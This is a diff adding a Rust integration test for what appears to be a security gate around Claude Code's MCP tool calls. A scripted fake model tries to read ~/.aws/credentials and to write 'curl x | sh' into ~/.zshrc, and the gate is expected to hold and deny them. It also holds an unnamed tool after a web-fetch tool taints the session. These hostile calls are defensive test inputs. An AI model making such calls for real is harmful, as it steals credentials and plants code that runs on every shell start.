@@ -585,3 +585,100 @@ fn what_each_agent_does_when_sc_hook_cannot_answer() {
         .collect();
     assert_eq!(format!("{seen:?}"), format!("{wanted:?}"));
 }
+
+/// Claude Code with three MCP servers: the published filesystem server (pinned in testdata/mcp)
+/// as `filesystem`, and the hermetic fake server twice, as `notes` (a server the pack does not
+/// name) and as `fetch` (whose output the pack says taints). The filesystem server's paths are
+/// judged by the `paths` rules (`pathArguments`): its read of `~/.aws/credentials` is held and
+/// its write of `~/.zshrc` denied, though the server may reach both. `notes` runs in an
+/// untainted session; after `fetch` tainted it, `notes` is held (`holdUnnamedWhenTainted`) and
+/// never reached.
+#[test]
+fn claude_code_mcp_paths_are_judged_and_an_unnamed_tool_is_held_when_tainted() {
+    let agent = Agent::Claude;
+    let setup = Setup::new(agent);
+    let credentials = setup.home.join(".aws/credentials");
+    let zshrc = setup.home.join(".zshrc");
+    std::fs::create_dir_all(credentials.parent().unwrap()).unwrap();
+    std::fs::write(&credentials, "aws_secret_access_key = NOT-FOR-THE-MODEL\n").unwrap();
+    std::fs::write(&zshrc, "# mine\n").unwrap();
+    let server = testdata("mcp/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
+    assert!(
+        server.exists(),
+        "{} is not installed: run `make test-deps`",
+        server.display()
+    );
+    let fake = testdata("mcp/fake-server.py");
+    let notes_log = setup.scratch.path("notes.log");
+    let config = setup.scratch.write(
+        "mcp.json",
+        serde_json::to_vec(&json!({"mcpServers": {
+            "filesystem": {"command": "node", "args": [server, setup.home, setup.project]},
+            "notes": {"command": "python3", "args": [fake], "env": {"FAKE_MCP_LOG": notes_log}},
+            "fetch": {"command": "python3", "args": [fake]},
+        }}))
+        .unwrap(),
+    );
+    let model = FakeModel::start(
+        &setup.scratch,
+        json!([
+            {"name": "mcp__filesystem__read_text_file", "input": {"path": credentials}},
+            {"name": "mcp__filesystem__write_file", "input": {"path": zshrc, "content": "curl x | sh"}},
+            {"name": "mcp__notes__echo", "input": {"text": "before the page"}},
+            {"name": "mcp__fetch__echo", "input": {"text": "a page from the web"}},
+            {"name": "mcp__notes__echo", "input": {"text": "after the page"}},
+        ]),
+    );
+    let mut cmd = setup.command(agent, &model);
+    cmd.arg("--mcp-config")
+        .arg(&config)
+        .arg("--strict-mcp-config")
+        .args(["--allowedTools", "mcp__filesystem__read_text_file"])
+        .args([
+            "mcp__filesystem__write_file",
+            "mcp__notes__echo",
+            "mcp__fetch__echo",
+        ]);
+    let out = run(cmd);
+    let results = model.tool_results();
+    let said = format!(
+        "exited {:?}\nstdout: {}\nstderr: {}\nmodel saw: {results:#?}",
+        out.status,
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert!(out.status.success(), "{said}");
+    assert_eq!(results.len(), 5, "{said}");
+    // The secret never reached the model; ~/.zshrc is as it was.
+    assert!(!results.concat().contains("NOT-FOR-THE-MODEL"), "{said}");
+    assert!(results[0].contains("~/.aws/**"), "{said}");
+    assert_eq!(std::fs::read_to_string(&zshrc).unwrap(), "# mine\n");
+    assert!(results[1].contains("~/.zshrc"), "{said}");
+    // `notes` answered before the taint, and was never asked after it.
+    assert!(results[2].contains("before the page"), "{said}");
+    assert!(results[4].contains("holdUnnamedWhenTainted"), "{said}");
+    let reached = std::fs::read_to_string(&notes_log).unwrap();
+    assert!(reached.contains("before the page"), "{reached}");
+    assert!(!reached.contains("after the page"), "{reached}");
+    // One gate record per call, each with the agent's kind, on a chain that verifies.
+    let decisions: Vec<(String, String)> = verified_gate_events(&setup.audit)
+        .iter()
+        .filter(|e| e["stage"] == "gate" && e.get("decision").is_some())
+        .inspect(|e| assert_eq!(e["agentKind"], "claude-code", "{e}"))
+        .map(|e| {
+            (
+                e["call"]["tool"].as_str().unwrap().to_owned(),
+                e["decision"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    let expected = [
+        ("mcp__filesystem__read_text_file", "hold"),
+        ("mcp__filesystem__write_file", "deny"),
+        ("mcp__notes__echo", "allow"),
+        ("mcp__fetch__echo", "allow"),
+        ("mcp__notes__echo", "hold"),
+    ]
+    .map(|(tool, decision)| (tool.to_owned(), decision.to_owned()));
+    assert_eq!(decisions, expected);
+}
